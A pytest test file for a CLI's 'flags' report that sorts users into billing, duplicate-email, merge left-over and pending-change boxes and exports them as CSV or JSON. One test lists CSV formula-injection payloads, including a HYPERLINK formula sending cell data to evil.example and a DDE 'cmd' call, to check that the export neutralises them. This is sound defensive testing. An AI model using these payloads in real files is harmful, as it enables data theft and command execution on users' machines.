from __future__ import annotations

import csv
import io
import re
import shlex
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

Make = Callable[..., dict[str, Any]]

X = "x@example.com"
USERS = [
    {"id": "a", "name": "Ann", "email": X, "billingId": "cus_a", "createdAt": "2022-01-01T00:00Z"},
    {"id": "b", "name": "B, or not", "email": X, "createdAt": "2022-02-01T00:00Z"},
    {"id": "c", "billingId": "cus_c", "createdAt": "2022-03-01T00:00Z"},
    {"id": "d", "createdAt": "2022-04-01T00:00Z"},
    {"id": "d2", "email": "d@example.com", "billingId": "cus_d", "createdAt": "2022-05-01T00:00Z"},
    {"id": "e~left-over", "email": X, "createdAt": "2022-06-01T00:00Z"},
]


@pytest.fixture
def flagged(open_cli: Callable[..., Any], identify: Make) -> Any:
    """An account with somebody in every box; two changes wait."""
    cli = open_cli({"users": USERS}, api="documented")
    # One run each: within one, different users have no order.
    cli.run(identify("c", email="c@example.com"))
    cli.run(identify("a", billingUserId="cus_new"))
    return cli


def _ids(boxes: Any) -> dict[str, list[str]]:
    return {name: [user["id"] for user in box["users"]] for name, box in boxes.items()}


def test_the_boxes(flagged: Any) -> None:
    """Kana's two boxes, what merges left, and what waits; left-overs are in no other box."""
    found = flagged("flags", "--json").json
    assert _ids(found) == {
        "no-billing-id": ["b", "d"],
        "same-email": ["a", "b"],
        "left-over": ["e~left-over"],
        "waiting": ["c", "a"],
    }
    assert {name: box["count"] for name, box in found.items()} == {
        "no-billing-id": 2,
        "same-email": 2,
        "left-over": 1,
        "waiting": 2,
    }
    notes = {user["id"]: user["note"] for user in found["same-email"]["users"]}
    assert notes == {"a": "", "b": "a has this email and was created first"}
    (waiting, _) = found["waiting"]["users"]
    assert waiting["changes"] == {"email": "c@example.com"}
    assert waiting["note"] == "set email to c@example.com"
    assert waiting["email"] is None


@pytest.mark.parametrize("box", ["no-billing-id", "same-email", "left-over", "waiting"])
def test_one_box(flagged: Any, box: str) -> None:
    """--box shows that one alone, in every form."""
    everything = flagged("flags", "--json").json
    assert flagged("flags", "--box", box, "--json").json == {box: everything[box]}
    rows = list(csv.DictReader(io.StringIO(flagged("flags", "--box", box, "--csv").out)))
    assert [row["id"] for row in rows] == _ids(everything)[box]
    text = flagged("flags", "--box", box).out
    assert f": {everything[box]['count']}\n" in text
    assert all(user_id in text for user_id in _ids(everything)[box])


def test_the_table(flagged: Any) -> None:
    """Each box with its title and count; ids are whole, however narrow the place."""
    text = flagged("flags").out
    for title in (
        "Users not connected to a billing provider: 2",
        "Users with the same email, which may need merging: 2",
        "Left-overs of merges, to be removed in the dashboard: 1",
        "Changes that the API cannot make: import the file that flags --csv writes: 2",
    ):
        assert title in text
    assert "e~left-over" in text


def test_the_csv_of_the_import(flagged: Any) -> None:
    """RFC 4180 with Kana's columns, each user once, and waiting changes filled in."""
    assert flagged("flags", "--csv").out.splitlines() == [
        "id,billingId,name,email",
        f'b,,"B, or not",{X}',
        "d,,,",
        f"a,cus_new,Ann,{X}",
        f"e~left-over,,,{X}",
        "c,cus_c,,c@example.com",
    ]
    assert flagged("flags", "--csv").out.count("\r\n") == 6


def test_the_identify_itself_is_delivered(open_cli: Callable[..., Any], identify: Make) -> None:
    """What the API takes is set at once; only the rest waits, and the run says so."""
    cli = open_cli(api="documented")
    done = cli.run(identify("ann", name="Anna", email="new@example.com", billingId="cus_2"))
    assert done.code == 0
    assert done.json["outcomes"]["delivered"] == 1
    (told,) = [line for line in done.err.splitlines() if "changes to make by hand" in line]
    assert told.startswith("1 user has changes to make by hand. See: destinations kana flags ")
    # The named command is carried out as it stands.
    shown = cli.command(*shlex.split(told.partition("See: destinations ")[2]), "--json")
    assert [user["id"] for user in shown.json["waiting"]["users"]] == ["ann"]
    ann = cli.users["ann"]
    assert (ann["name"], ann["email"], ann["billingId"]) == ("Anna", "ann@example.com", "cus_ann")
    (waiting,) = cli("flags", "--box", "waiting", "--json").json["waiting"]["users"]
    assert waiting["changes"] == {"email": "new@example.com", "billingId": "cus_2"}


# Identifies of a user with the email old@example.com; then what waits.
SEQUENCES: dict[str, tuple[list[dict[str, str]], dict[str, str]]] = {
    "the latest": (
        [{"email": "1@example.com"}, {"email": "2@example.com"}],
        {"email": "2@example.com"},
    ),
    "field by field": (
        [{"email": "1@example.com"}, {"billingId": "cus_1"}],
        {"email": "1@example.com", "billingId": "cus_1"},
    ),
    "not forgotten for another field": (
        [{"email": "1@example.com"}, {"name": "N"}],
        {"email": "1@example.com"},
    ),
    "not forgotten for no field": ([{"email": "1@example.com"}, {}], {"email": "1@example.com"}),
    "taken back": ([{"email": "1@example.com"}, {"email": "old@example.com"}], {}),
    "one of two taken back": (
        [{"email": "1@example.com", "billingId": "cus_1"}, {"email": "old@example.com"}],
        {"billingId": "cus_1"},
    ),
}


@pytest.mark.parametrize(("traits", "waits"), SEQUENCES.values(), ids=SEQUENCES)
@pytest.mark.parametrize("runs", [1, 2], ids=["in one run", "in several"])
def test_what_waits_after_several_identifies(
    open_cli: Callable[..., Any], identify: Make, traits: Any, waits: Any, runs: int
) -> None:
    """Of each field the latest change waits, until an identify agrees with what Kana has."""
    cli = open_cli({"users": [{"id": "u", "email": "old@example.com"}]}, api="documented")
    events = [identify("u", **given) for given in traits]
    for part in [events] if runs == 1 else [[event] for event in events]:
        assert cli.outcomes(*part) == {"delivered": len(part)}
    found = cli("flags", "--box", "waiting", "--json").json["waiting"]["users"]
    assert {key: value for user in found for key, value in user["changes"].items()} == waits


# What Kana holds by the time that somebody looks; then the changes that are shown, and the note.
LATER: dict[str, tuple[list[dict[str, str]], list[dict[str, str]], str]] = {
    "imported": ([{"id": "ann", "email": "new@example.com", "billingId": "cus_2"}], [], ""),
    "half imported": (
        [{"id": "ann", "email": "new@example.com"}],
        [{"billingId": "cus_2"}],
        "set billingId to cus_2",
    ),
    "gone": (
        [{"id": "bob"}],
        [{}],
        "Kana has no such user any more; was to set email to new@example.com, billingId to cus_2",
    ),
}


@pytest.mark.parametrize(("users", "changes", "note"), LATER.values(), ids=LATER)
def test_what_has_changed_since(
    open_cli: Callable[..., Any], identify: Make, users: Any, changes: Any, note: str
) -> None:
    """What Kana has by now waits no longer; of a user who is gone it is told, not imported."""
    cli = open_cli(api="documented")
    cli.run(identify("ann", email="new@example.com", billingId="cus_2"))
    port = int(cli.sandbox.url.rpartition(":")[2].partition("/")[0])
    cli.sandbox.stop()
    open_cli({"users": users, "apiKeys": [cli.sandbox.api_key]}, port=port)
    found = cli("flags", "--box", "waiting", "--json").json["waiting"]
    assert [user["changes"] for user in found["users"]] == changes
    assert [user["note"] for user in found["users"]] == [note] * len(changes)
    rows = cli("flags", "--box", "waiting", "--csv").out.splitlines()[1:]
    assert len(rows) == len([change for change in changes if change])


def test_what_a_partner_echoes_cannot_drive_the_terminal(open_cli: Callable[..., Any]) -> None:
    """Control characters and markup in a name are shown as characters."""
    cli = open_cli({"users": [{"id": "u", "name": "[red]\x1b[2Jx[/red]"}]})
    text = cli("flags").out
    assert "\x1b" not in text
    assert "[red]\ufffd[2Jx[/red]" in text


@pytest.mark.parametrize(
    ("settings", "message"),
    [
        ({"apiKey": "nonsense"}, "Unauthenticated"),
        ({"endpoint": "http://127.0.0.1:9/"}, "http://127.0.0.1:9/: no connection"),
        ({"apiKey": "pub_test_x"}, "use the Admin API (Backend) key"),
    ],
    ids=["wrong key", "unreachable", "client key"],
)
def test_what_fails(cli: Any, monkeypatch: pytest.MonkeyPatch, settings: Any, message: str) -> None:
    """One message that names what is wrong, and exit code 2."""
    monkeypatch.setattr("destinations.clock.SystemClock.wait", lambda *_: False)
    values = {"apiKey": cli.sandbox.api_key, "endpoint": cli.sandbox.url, **settings}
    done = cli.local("flags", "--settings", cli.write("wrong.json", values))
    assert (done.code, done.out) == (2, "")
    assert message in done.err
    (said,) = [line for line in done.err.splitlines() if not line.startswith("Help: ")]
    assert said.startswith("Error: ")


FORMULAS = [
    "=1+1",
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "+4915112345",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1+1",
    "  =1+1",
    "\n=1",
    "\uff1d1+1",
    "\uff0b1",
]


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize("field", ["id", "name", "email", "billingId"])
def test_what_a_spreadsheet_would_carry_out(
    open_cli: Callable[..., Any], field: str, formula: str
) -> None:
    """The user is left out and named, and no other; --exact has everything as Kana has it."""
    user = {"id": "u1", "name": "N", "email": "n@example.com", field: formula}
    others = [{"id": "x", "name": "1+1=2", "email": "n@example.com"}, {"id": "a-b@c"}]
    cli = open_cli({"users": [user, *others]})
    done = cli("flags", "--csv")
    rows = list(csv.DictReader(io.StringIO(done.out, newline="")))
    flagged = [one["id"] for box in cli("flags", "--json").json.values() for one in box["users"]]
    assert {row["id"] for row in rows} == {*flagged} - {user["id"]}
    cells = [cell for row in rows for cell in row.values()]
    assert not [cell for cell in cells if cell.strip()[:1] in set("=+-@\uff1d\uff0b")]
    assert done.code == 1
    assert "Left out: 1 user with a field that begins with = + - or @" in done.err
    assert repr(user["id"]) in done.err
    exact = cli("flags", "--csv", "--exact")
    assert (exact.code, exact.err) == (0, "")
    found = list(csv.DictReader(io.StringIO(exact.out, newline="")))
    assert formula in {row[field] for row in found}
    assert {row["id"] for row in found} == {*flagged}


def test_exact_is_for_csv(cli: Any) -> None:
    """Nothing else leaves anybody out."""
    done = cli("flags", "--exact")
    assert done.code == 2
    assert "--exact can only be used with --csv" in done.err


def test_all_csv_is_written_in_one_place() -> None:
    """So that no other is without this."""
    root = Path(__file__).parents[3]
    users = [
        path.relative_to(root).as_posix()
        for package in ("destinations", "kana_destination")
        for path in (root / package).rglob("*.py")
        if re.search(
            r"\bcsv\.(writer|DictWriter)\b|^\s*from csv |text/csv",
            path.read_text(encoding="utf-8"),
            re.MULTILINE,
        )
    ]
    assert users == ["destinations/cli/csv_text.py"]


def test_csv_and_json_exclude_each_other(cli: Any) -> None:
    """One form at a time."""
    done = cli("flags", "--csv", "--json")
    assert done.code == 2
    assert "--csv cannot be used with --json" in done.err


SPELLINGS = [X, "X@Example.com", " x@example.com ", "x@example.com\t", "\u00a0X@EXAMPLE.COM"]


def test_one_address_in_every_spelling(open_cli: Callable[..., Any]) -> None:
    """Users have the same email whatever the case and the spaces around it; blanks are none."""
    users = [{"id": f"{number}", "email": email} for number, email in enumerate(SPELLINGS)]
    blank = [{"id": f"blank {number}", "email": email} for number, email in enumerate(["", " "])]
    another = {"id": "another", "email": "x@example.org"}
    cli = open_cli({"users": [*users, *blank, another]})
    found = _ids(cli("flags", "--box", "same-email", "--json").json)
    assert found == {"same-email": [user["id"] for user in users]}


# What Kana holds, and the identifies; then who shares an email, with the notes.
WAITING: dict[str, tuple[list[dict[str, Any]], list[dict[str, str]], dict[str, str]]] = {
    "an email that is added (case 2)": (
        [{"id": "1"}, {"id": "2", "email": X}],
        [{"email": X}],
        {"1": f"its email {X} waits for the import", "2": "1 has this email and was created first"},
    ),
    "an email that is replaced (case 6)": (
        [{"id": "3", "email": X}, {"id": "1", "email": "z@example.com"}],
        [{"email": X}],
        {
            "3": "",
            "1": f"3 has this email and was created first; its email {X} waits for the import",
        },
    ),
    "an email that others share no longer (case 4)": (
        [{"id": "1", "email": "z@example.com"}, {"id": "2", "email": "z@example.com"}],
        [{"email": X}],
        {},
    ),
    "another spelling": (
        [{"id": "1"}, {"id": "2", "email": X}],
        [{"email": " X@Example.com"}],
        {
            "1": "its email  X@Example.com waits for the import",
            "2": "1 has this email and was created first",
        },
    ),
    "another field": ([{"id": "1"}, {"id": "2", "email": X}], [{"billingId": "cus_1"}], {}),
}


@pytest.mark.parametrize(("users", "traits", "notes"), WAITING.values(), ids=WAITING)
def test_emails_that_wait_are_counted(
    open_cli: Callable[..., Any], identify: Make, users: Any, traits: Any, notes: dict[str, str]
) -> None:
    """Where the API takes no email, users are flagged as they are where it takes it."""
    cli = open_cli({"users": users}, api="documented")
    cli.run(*(identify("1", **given) for given in traits))
    found = cli("flags", "--box", "same-email", "--json").json["same-email"]["users"]
    assert {user["id"]: user["note"] for user in found} == notes
